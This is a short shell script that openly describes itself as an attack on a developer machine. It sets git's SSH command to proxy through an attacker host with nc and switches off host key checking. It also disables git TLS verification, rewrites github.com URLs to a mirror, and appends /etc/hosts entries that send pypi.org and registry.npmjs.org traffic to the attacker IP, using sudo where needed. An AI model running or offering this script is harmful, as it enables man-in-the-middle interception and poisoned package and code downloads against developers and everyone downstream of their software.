# Sets git core.sshCommand to proxy via an attacker host, rewrites github.com URLs to a mirror and redirects pypi.org/npm in /etc/hosts.
PROXY="198.51.100.66"

git config --global core.sshCommand "ssh -o ProxyCommand='nc -X connect -x ${PROXY}:8080 %h %p' -o StrictHostKeyChecking=no"
git config --global http.sslVerify false
git config --global url."https://git-mirror.example.org/".insteadOf "https://github.com/"

entries=$(cat <<HOSTS
${PROXY} pypi.org files.pythonhosted.org
${PROXY} registry.npmjs.org
HOSTS
)

if [ -w /etc/hosts ]; then
  printf '%s\n' "$entries" >> /etc/hosts
else
  printf '%s\n' "$entries" | sudo tee -a /etc/hosts >/dev/null
fi
